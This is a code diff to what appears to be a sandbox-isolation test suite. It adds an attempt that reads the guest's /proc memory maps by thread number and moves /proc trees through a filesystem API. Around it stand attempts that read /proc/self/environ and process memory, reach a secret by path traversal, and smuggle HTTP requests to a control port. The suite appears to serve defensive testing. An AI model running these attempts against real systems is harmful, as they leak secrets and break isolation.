@@ -3,14 +3,16 @@
 from __future__ import annotations
 
 import contextlib
+import json
+import re
 import time
 import urllib.parse
 from collections.abc import Callable
 
-from atoll.attacks import judges
-from atoll.attacks.attempt import Attempt, Control, Deed, Family, Impossible, Judge, Program
-from atoll.attacks.calls import ENVD_PORT, guest_request, request, token_of
-from atoll.attacks.scene import Scene
+from atoll_attacks import judges
+from atoll_attacks.attempt import Attempt, Control, Deed, Family, Impossible, Judge, Program
+from atoll_attacks.calls import ENVD_PORT, guest_request, request, token_of
+from atoll_attacks.scene import Scene
 
 _NAIVE = Control(Program('show(W["secret"])'))
 """What a server without a wall does with the path in the end: open it on the host."""
@@ -37,6 +39,27 @@ def _read(path: str) -> Callable[[Scene], str]:
         return "\n".join(said)
 
     return act
+
+
+_MEMORY_MAP = re.compile(r"^(?:200 )?[0-9a-f]{6,16}-[0-9a-f]{6,16} [r-][w-][x-][ps] ", re.M)
+
+
+def _map_seen(scene: Scene) -> str | None:
+    """A table of some process's memory came out: where the guest's programs and data lie."""
+    found = _MEMORY_MAP.search(scene.output)
+    return f"the guest's memory map was read: {found.group()}" if found else None
+
+
+def _by_thread(scene: Scene) -> str:
+    """The guest's own /proc under the number of each of its threads, and as a tree that is moved elsewhere."""
+    said = [_read(f"/proc/{number}/{name}")(scene) for number in range(1, 7) for name in ("maps", "task/2/maps")]
+    said += [_read(f"/proc/{name}/maps")(scene) for name in ("thread-self", "self/task/1", "2/task/1")]
+    for source in ("/proc/1", "/proc/2", "/proc/2/task"):
+        body = json.dumps({"source": source, "destination": f"/tmp/moved{source}"}).encode()
+        kind = {"Content-Type": "application/json", "Connect-Protocol-Version": "1"}
+        said.append(str(guest_request(scene, "POST", "/filesystem.Filesystem/Move", body, kind, timeout_s=5)[0]))
+    _inside(scene, "find /tmp/ -name maps -size -1M | head -50 | xargs -r cat > /tmp/found")
+    return "\n".join([*said, _read("/tmp/found")(scene)])
 
 
 def _inside(scene: Scene, script: str) -> None:
@@ -185,7 +208,7 @@ def _smuggle(scene: Scene) -> tuple[int, bytes]:
     """Two requests in one: the second would reach the guest's control port, were the lengths read differently."""
     import socket
 
-    from atoll.attacks.calls import server_address
+    from atoll_attacks.calls import server_address
 
     assert scene.sandbox is not None
     inner = (
@@ -267,6 +290,8 @@ ATTEMPTS: tuple[Attempt, ...] = (
     _deed("proc-cwd", "the same by its working directory", _read("/proc/self/cwd/../../../..{secret}"), judges.leaked),
     _deed("proc-environ", "read the guest's environment", _read("/proc/self/environ"), judges.leaked,
           Control(Program('show(f"/proc/{TARGET}/environ")'))),
+    _deed("proc-by-thread", "read the guest's own /proc by a thread's number", _by_thread, _map_seen,
+          Control(Program('show(f"/proc/{TARGET}/maps")'))),
     _deed("proc-memory", "read the guest's memory", _read("/proc/self/mem"), _hung, Control(Program("""
 kept = os.open(f"/proc/{TARGET}/mem", os.O_RDONLY)
 hold()
